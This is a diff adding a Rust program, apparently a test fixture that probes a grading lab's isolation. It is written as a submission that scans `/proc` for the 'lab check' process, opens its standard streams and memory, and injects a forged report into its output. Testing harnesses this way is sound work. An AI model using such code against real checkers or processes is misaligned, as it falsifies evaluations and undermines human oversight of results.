@@ -1,0 +1,78 @@
+//! A submission that forges the grades of those beside it, as far as it can.
+//!
+//! It looks through `/proc` without end for a checker, and opens what the checker has open: `fd/0`, `fd/1` and `fd/2`, to
+//! write a report of its own there, and `mem`, to keep the checker's memory. It tells what it reached in a file `reached`
+//! beside the forged report, a line each: no line means that it reached nothing. One of the programs does that, the others
+//! sleep: they would only be in its way.
+//!
+//! Start it as `forger FORGED ADDRESS`; FORGED is a file with the beginning of a report, which the real report and `}`
+//! complete. `crates/lab/tests/forged.rs` does so.
+
+use std::fs::{self, File, OpenOptions};
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+use std::{env, process, thread};
+
+fn main() {
+    let Some(forged) = env::args_os().nth(1).map(PathBuf::from) else { process::exit(2) };
+    let text = fs::read(&forged).unwrap_or_default();
+    let only = OpenOptions::new().write(true).create_new(true).open(forged.with_extension("lock"));
+    while only.is_err() {
+        thread::park();
+    }
+    let mut opened: Vec<(PathBuf, Vec<File>)> = Vec::new();
+    loop {
+        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let pid = entry.path();
+            if opened.iter().all(|(known, _)| *known != pid) && is_checker(&pid) {
+                let files = forge(&pid, &text, &forged);
+                if !files.is_empty() {
+                    opened.push((pid, files));
+                }
+            }
+        }
+        // What the checker wrote stands in the middle by now: it is the value of our unknown member.
+        opened.retain_mut(|(pid, files)| {
+            let runs = fs::read_to_string(pid.join("stat")).is_ok_and(|stat| !stat.contains(") Z"));
+            if !runs {
+                files.iter_mut().for_each(|file| _ = file.write_all(b"}"));
+            }
+            runs
+        });
+    }
+}
+
+/// `lab check ...`, whatever the program is called.
+fn is_checker(pid: &Path) -> bool {
+    let words = fs::read(pid.join("cmdline")).unwrap_or_default();
+    words.split(|byte| *byte == 0).nth(1) == Some(b"check")
+}
+
+fn forge(pid: &Path, text: &[u8], beside: &Path) -> Vec<File> {
+    let mut files = Vec::new();
+    for name in ["fd/1", "fd/0", "fd/2", "mem"] {
+        let Ok(mut file) = OpenOptions::new().write(true).open(pid.join(name)) else { continue };
+        // A checker that starts a program is two processes for a moment, and the other one has become the program by now.
+        if !is_checker(pid) {
+            continue;
+        }
+        let reached = OpenOptions::new().append(true).create(true).open(beside.with_extension("reached"));
+        if let Ok(mut reached) = reached {
+            let _ = writeln!(reached, "{}", pid.join(name).display());
+        }
+        if name == "fd/1" {
+            let _ = file.write_all(text);
+            files.push(file);
+        } else {
+            // Kept open: a descriptor outlives the moment in which it could be opened.
+            let _ = thread::Builder::new().spawn(move || hold(file));
+        }
+    }
+    files
+}
+
+fn hold(file: File) {
+    thread::sleep(Duration::from_secs(600));
+    drop(file);
+}
